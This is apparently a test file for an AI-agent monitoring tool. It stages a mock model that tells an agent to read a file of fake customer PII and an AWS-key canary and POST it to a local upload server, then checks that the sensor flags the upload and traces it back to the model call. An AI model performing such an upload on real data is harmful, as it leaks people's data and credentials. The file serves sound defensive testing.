import { expectedContentHash } from '../helpers/expected-hash.js';
/**
 * The exfiltration incident under the real sensor with the default policy
 * pack: an agent on the real `openai` SDK reads a file of customer PII and an
 * AWS-key-shaped canary, the (mock) model asks it to upload, and it POSTs the
 * file to another host. The trail must carry a `flag` decision of
 * AR-EXFIL-001 on that egress, linked to the model call that asked for it.
 */
import { test, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync, type ChildProcess } from 'node:child_process';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cliEntry, repoRoot } from '../../src/paths.js';
import { requireKernel } from '../helpers/privileges.js';
import { DEFAULT_RULES_FILE } from '../../src/policy/rule-store.js';
import { makeTestCa, removeTestCa } from '../helpers/tls-server.js';
import { spawnStoppedAgent, startMockLlm } from '../helpers/stopped-agent.js';
import { startSensor } from '../helpers/sensor-process.js';

type Ev = { id: string; type: string; data: Record<string, any> };

/** The incident under the real sensor: the agent reads the report and POSTs it to an upload server (plain HTTP or HTTPS). */
async function incident(t: TestContext, scheme: 'http' | 'https') {
  const work = mkdtempSync(join(tmpdir(), 'agentrail-exfil-'));
  const ca = makeTestCa(['localhost']);
  const children: ChildProcess[] = [];
  let received = 0;
  const onReq = (req: IncomingMessage, res: ServerResponse) => {
    req.on('data', (c: Buffer) => (received += c.length));
    req.on('end', () => res.end('ok'));
  };
  const upload = scheme === 'https' ? createHttpsServer({ cert: readFileSync(ca.certPath), key: readFileSync(ca.keyPath) }, onReq) : createServer(onReq);
  await new Promise<void>((r) => upload.listen(0, '127.0.0.1', r));
  const uploadPort = (upload.address() as AddressInfo).port;
  t.after(() => {
    for (const c of children) if (c.exitCode === null) c.kill('SIGKILL');
    upload.close();
    removeTestCa(ca);
    rmSync(work, { recursive: true, force: true });
  });

  const dataFile = join(work, 'customers.csv');
  writeFileSync(dataFile, 'name,email,card\nJane Roe,jane.roe@example.com,4111111111111111\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n'.repeat(10));
  const script = { toolCall: { name: 'http_post', arguments: { url: scheme === 'https' ? `https://localhost:${uploadPort}/upload` : `http://127.0.0.1:${uploadPort}/upload` } }, finalText: 'Backed up.' };
  const port = await startMockLlm(children, ca, script);
  const { agent, output } = await spawnStoppedAgent(children, 'node-exfil-agent.mjs', { MOCK_URL: `https://localhost:${port}`, DATA_FILE: dataFile, NODE_EXTRA_CA_CERTS: ca.caPath });

  // The report's path is classified PII (a classify path rule): file reads carry no content.
  const rules = join(work, 'classify.yaml');
  writeFileSync(rules, `paths:\n  - glob: "${work}/*.csv"\n    tags: ["PII:customer"]\n`);
  const cfg = join(work, 'agentrail.yaml');
  writeFileSync(cfg, ['observability:', '  httpEnabled: false', 'seal:', `  keyDir: ${join(work, 'keys')}`, 'classify:', `  rulesFile: ${rules}`, 'policy:', '  modelEndpoints: [localhost]', ''].join('\n'));
  const logDir = join(work, 'log');
  const sensor = await startSensor(children, agent.pid!, logDir, cfg);

  process.kill(agent.pid!, 'SIGCONT');
  const code = await new Promise<number | null>((r) => agent.on('exit', (c) => r(c)));
  assert.equal(code, 0, `agent: ${output()}`);
  assert.ok(received > 0, 'the upload server received the report');
  await new Promise((r) => setTimeout(r, 1500)); // fd closes and exits drain
  await sensor.stop();

  const events: Ev[] = [];
  for (const f of readdirSync(join(logDir, 'segments')).sort()) for (const line of readFileSync(join(logDir, 'segments', f), 'utf8').split('\n')) if (line) events.push(JSON.parse(line) as Ev);
  return { events, logDir, dataFile, cfg, uploadPort };
}

test('exfiltration under the real sensor: AR-EXFIL-001 flags the upload, linked to the model call that asked for it', { timeout: 180_000 }, async (t) => {
  if (!requireKernel(t)) return;
  const { events, logDir, cfg, uploadPort } = await incident(t, 'http');
  const byId = new Map(events.map((e) => [e.id, e]));
  const flags = events.filter((e) => e.type === 'dev.agentrail.policy.decision' && e.data.rule_fired === 'AR-EXFIL-001');
  const onUpload = flags.filter((f) => byId.get(f.data.evaluated_event_id)?.data.network?.remote_port === uploadPort);
  assert.equal(onUpload.length, 1, `decisions: ${JSON.stringify(events.filter((e) => e.type.endsWith('policy.decision')).map((e) => e.data.rule_fired))}`);
  const d = onUpload[0]!.data;
  assert.equal(d.decision, 'flag');
  assert.equal(d.enforcement, 'observe');
  const egress = byId.get(d.evaluated_event_id)!;
  assert.equal(egress.type, 'dev.agentrail.data.access');
  assert.ok(egress.data.bytes_written > 0);
  const asker = events.find((e) => e.type === 'dev.agentrail.model.invocation' && e.data.tools_requested.some((x: { name: string }) => x.name === 'http_post'))!;
  assert.ok(asker, 'the model call that asked for the upload is in the trail');
  assert.ok(d.related_event_ids.includes(asker.id), 'the decision links the model call that asked for the upload');
  const read = events.find((e) => d.related_event_ids.includes(e.id) && e.type === 'dev.agentrail.data.access' && e.data.resource_uri.endsWith('/customers.csv'));
  assert.ok(read, 'the decision links the sensitive read that started the sequence');
  assert.equal(flags.length, onUpload.length, 'the model endpoint (allow-listed) is not flagged');
  assert.equal(JSON.stringify(events).includes('AKIAIOSFODNN7EXAMPLE'), false, 'no canary in the trail');

  // The recorded log replays through the rules: the same decision, found again by `agentrail policy test`.
  const replay = spawnSync(process.execPath, [cliEntry, 'policy', 'test', DEFAULT_RULES_FILE, logDir, '--config', cfg], { encoding: 'utf8', env: { ...process.env, AGENTRAIL_ROOT: repoRoot } });
  assert.equal(replay.status, 0, replay.stderr);
  assert.ok(replay.stdout.split('\n').some((l) => l.includes(' FLAG AR-EXFIL-001 ') && l.includes(`event=${egress.id}`)), replay.stdout);

});

test('investigate on the HTTPS exfiltration: the five questions from the trail alone, and the leaked file found on the egress by its hash', { timeout: 180_000 }, async (t) => {
  if (!requireKernel(t)) return;
  const { logDir, dataFile } = await incident(t, 'https');

  // The five questions from the trail alone, and "did this file leave?" proven by its hash.
  const inv = spawnSync(process.execPath, [cliEntry, 'investigate', logDir, '--artifact', dataFile, '--json'], { encoding: 'utf8', env: { ...process.env, AGENTRAIL_ROOT: repoRoot } });
  assert.equal(inv.status, 0, inv.stderr);
  const ans = JSON.parse(inv.stdout) as Record<string, any>;
  assert.equal(ans.integrity.ok, true, JSON.stringify(ans.integrity));
  assert.ok(ans.q1_triggering_input.length >= 1, 'Q1: the first model call of the session');
  assert.ok(ans.q3_data.some((r: any) => r.resource === `file://${dataFile}` && r.bytes_read === readFileSync(dataFile).length), 'Q3: the report was read, every byte');
  const fileHash = expectedContentHash(readFileSync(dataFile), join(logDir, '..', 'keys')); // seal.keyDir beside the log
  assert.equal(ans.q4_egress.artifacts[0].sha256, fileHash);
  const leaving = ans.q4_egress.artifacts[0].found.filter((f: any) => f.field === 'request_hash');
  assert.ok(leaving.some((f: any) => f.type === 'data.access' && String(f.resource).includes('/upload')), `Q4: the upload's request body is the report, by hash: ${JSON.stringify(ans.q4_egress.artifacts)}`);
  assert.ok(ans.q5_identity.some((x: any) => String(x.key_id_hash).startsWith('hmac-sha256:')), 'Q5: the API key, by keyed id');
  // (The upload host is the allow-listed model host here, so no AR-EXFIL-001: the HTTP test covers the policy.)
  assert.equal(inv.stdout.includes('AKIAIOSFODNN7EXAMPLE'), false);
});
